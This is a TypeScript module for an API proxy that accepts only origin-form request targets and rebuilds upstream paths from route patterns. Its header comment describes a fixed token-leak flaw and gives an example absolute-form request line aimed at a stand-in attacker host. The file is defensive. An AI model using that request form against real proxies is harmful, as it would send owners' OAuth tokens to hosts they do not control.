/**
 * The request target a node accepts, and the one it sends upstream. Only origin-form
 * (`/path?query`, RFC 9112 §3.2.1) is accepted: an absolute-form target
 * (`POST http://attacker.example/v1/messages`) used to be forwarded as the upstream request line
 * with the owner's OAuth token, and a front end that routes by that authority (RFC 9112 §3.2.2
 * lets it) handed the token to another host. The upstream target is rebuilt from the endpoint the
 * route matched, its parameters and the query, never copied from the client's request line.
 */

export interface OriginForm {
  path: string;
  /** Everything after the first `?`, without it; '' when there is none. */
  query: string;
}

/** The parsed origin-form target, or undefined for absolute-, authority- and asterisk-form. */
export function originForm(target: string | undefined): OriginForm | undefined {
  // `//host/...` is not a path-absolute (its first segment would be empty): a client library
  // joining URLs would read it as a network-path reference to another host.
  if (target === undefined || !target.startsWith('/') || target.startsWith('//')) return undefined;
  const mark = target.indexOf('?');
  return mark === -1 ? { path: target, query: '' } : { path: target.slice(0, mark), query: target.slice(mark + 1) };
}

/**
 * The upstream path and query for an allowed endpoint: its pattern (`/v1/models/:id`) with each
 * parameter percent-encoded as one segment, then the client's query unchanged.
 */
export function upstreamTarget(pattern: string, params: Record<string, string | undefined>, query: string): string {
  const path = pattern.replace(/:([A-Za-z_]+)/g, (_match, name: string) => encodeURIComponent(params[name] ?? ''));
  return query === '' ? path : `${path}?${query}`;
}
